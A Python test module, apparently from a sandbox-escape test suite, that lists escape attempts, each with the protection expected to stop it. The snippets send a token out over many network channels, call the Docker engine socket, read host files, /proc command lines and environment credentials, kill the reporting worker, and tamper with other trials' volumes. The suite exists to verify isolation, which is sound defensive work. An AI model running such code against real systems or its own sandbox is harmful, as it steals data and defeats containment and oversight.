"""Attempts to reach out: the network of every kind, the engine, the host's files and processes, other trials."""

from __future__ import annotations

from rsi.testing.escapes.attempt import Attempt
from rsi.testing.escapes.attempt import Protection as P  # noqa: N817 - named forty times in these tables
from rsi.testing.escapes.scene import Scene


def _heard(scene: Scene) -> bool:
    return scene.heard()


def _printed(scene: Scene) -> bool:
    return scene.printed_secret()


_SOCKETS = {
    "TCP over IPv4": "socket.create_connection(tuple(told['tcp4']), timeout=2).sendall(token)",
    "UDP over IPv4": "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(token, tuple(told['udp4']))",
    "TCP over IPv6": "socket.create_connection(tuple(told['tcp6'][:2]), timeout=4).sendall(token)",
    "UDP over IPv6": """
for _ in range(5):  # a fresh address is not used in its first moments
    socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(token, tuple(told['udp6']))
    time.sleep(0.4)
""",
    "a name looked up": "socket.getaddrinfo(told['token'] + '.test', 80)",
    "an echo request": """
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as pinger:
    pinger.sendto(b"\\x08\\x00" + bytes(6) + token, (told["tcp4"][0], 0))
""",
}

NETWORK = [
    *(
        Attempt(
            name=f"network: {name}",
            tries=f"to send a word out by {name}",
            code=code,
            effect=_heard,
            stopped_by=(P.NO_NETWORK,),
            harmless=name.endswith("IPv4"),
        )
        for name, code in _SOCKETS.items()
    ),
    Attempt(
        name="network: a raw socket",
        tries="to send a packet of a protocol of its own",
        code="""
with socket.socket(socket.AF_INET, socket.SOCK_RAW, 253) as raw:
    raw.sendto(token, (told["tcp4"][0], 0))
""",
        effect=_heard,
        stopped_by=(P.NO_NETWORK, P.NO_CAPABILITIES, P.UNPRIVILEGED_USER),
    ),
    Attempt(
        name="network: the host's loopback",
        tries="to talk to a service that listens on the host for the host alone",
        code="socket.create_connection(tuple(told['loopback']), timeout=2).sendall(token)",
        effect=_heard,
        stopped_by=(P.OWN_NETWORK,),
        harmless=True,
    ),
    Attempt(
        name="network: an abstract unix socket",
        tries="to talk to a service of the host whose socket has no file",
        code="socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(token, '\\0' + told['abstract'])",
        effect=_heard,
        stopped_by=(P.OWN_NETWORK,),
        harmless=True,
    ),
    Attempt(
        name="network: a unix socket's file",
        tries="to talk to a service of the host through its socket's file",
        code="socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(token, told['host'] + '/open/socket')",
        effect=_heard,
        stopped_by=(P.NO_HOST_FILES,),
        harmless=True,
    ),
    Attempt(
        name="network: the engine's socket",
        tries="to have the engine make a volume, and so anything else",
        code="""
body = json.dumps({"Name": told["token"]})
request = "POST /volumes/create HTTP/1.0\\r\\nContent-Type: application/json\\r\\n"
request += f"Content-Length: {len(body)}\\r\\n\\r\\n"
with socket.socket(socket.AF_UNIX) as engine:
    engine.connect("/var/run/docker.sock")
    engine.sendall((request + body).encode())
    engine.recv(4096)
""",
        effect=lambda scene: bool(scene.engine["volume made"]()),
        stopped_by=(P.NO_ENGINE, P.UNPRIVILEGED_USER),
    ),
]

HOST = [
    Attempt(
        name="host: a file",
        tries="to read a file of the host",
        code="print(open(told['host'] + '/open/secret').read())",
        effect=_printed,
        stopped_by=(P.NO_HOST_FILES,),
        harmless=True,
    ),
    Attempt(
        name="host: the ledger read",
        tries="to read the ledger of the run that it is part of",
        code="print(open(told['host'] + '/open/ledger.jsonl').read())",
        effect=_printed,
        stopped_by=(P.NO_HOST_FILES,),
        harmless=True,
    ),
    Attempt(
        name="host: the ledger changed",
        tries="to add a line to the ledger of the run that it is part of",
        code="open(told['host'] + '/open/ledger.jsonl', 'a').write(told['token'])",
        effect=lambda scene: scene.token in scene.engine["ledger"](),
        stopped_by=(P.NO_HOST_FILES,),
        harmless=True,
    ),
    Attempt(
        name="host: command lines",
        tries="to read what the host's processes were started with",
        code="""
for number in filter(str.isdecimal, os.listdir("/proc")):
    try:
        line = open(f"/proc/{number}/cmdline").read()
    except OSError:
        continue
    if told["marked"] in line:
        print(line)
""",
        effect=_printed,
        stopped_by=(P.OWN_PROCESSES,),
        harmless=True,
    ),
    Attempt(
        name="host: environment",
        tries="to read credentials in its environment",
        code="print(os.environ, open('/proc/self/environ').read())",
        effect=_printed,
        stopped_by=(P.ENVIRONMENT,),
        harmless=True,
    ),
    Attempt(
        name="host: shared memory",
        tries="to read what a process of the host keeps in shared memory",
        code="print(open('/dev/shm/' + told['marked']).read())",
        effect=_printed,
        stopped_by=(P.OWN_IPC,),
        harmless=True,
    ),
    Attempt(
        name="host: a signal to a process",
        tries="to end a process of the host that runs under the same user id",
        code="os.kill(told['victim'], signal.SIGKILL)",
        effect=lambda scene: bool(scene.engine["victim ended"]()),
        stopped_by=(P.OWN_PROCESSES, P.UNPRIVILEGED_USER),
        harmless=True,
    ),
    Attempt(
        name="host: a signal to process 1",
        tries="to end the worker that reports about it",
        code="os.kill(os.getppid(), signal.SIGKILL)\ntime.sleep(1)",
        effect=lambda scene: scene.outcome is not None and scene.outcome.execution.kind != "completed",
        stopped_by=(P.OWN_PROCESSES,),
        harmless=True,
    ),
]

_WALK = """
for folder, folders, files in os.walk("/"):
    folders[:] = [name for name in folders if (folder, name) not in (("/", "proc"), ("/", "sys"), ("/", "usr"))]
    if "other-trial" in files:
        path = os.path.join(folder, "other-trial")
"""

TRIALS = [
    Attempt(
        name="trials: another's inputs",
        tries="to find and read the inputs of a trial that waits beside it",
        code=_WALK + "        print(open(path).read())",
        effect=_printed,
        stopped_by=(P.NO_OTHER_VOLUMES,),
    ),
    Attempt(
        name="trials: another's outputs",
        tries="to leave a file among the outputs of a trial that waits beside it",
        code="""
for folder in ("/other/out", "/var/lib/docker/volumes/" + told["other"] + "-out/_data"):
    if os.path.isdir(folder):
        open(os.path.join(folder, told["token"]), "w").close()
""",
        effect=lambda scene: bool(scene.engine["left at the other trial"]()),
        stopped_by=(P.NO_OTHER_VOLUMES, P.OWN_USER),
    ),
]

ATTEMPTS = (*NETWORK, *HOST, *TRIALS)
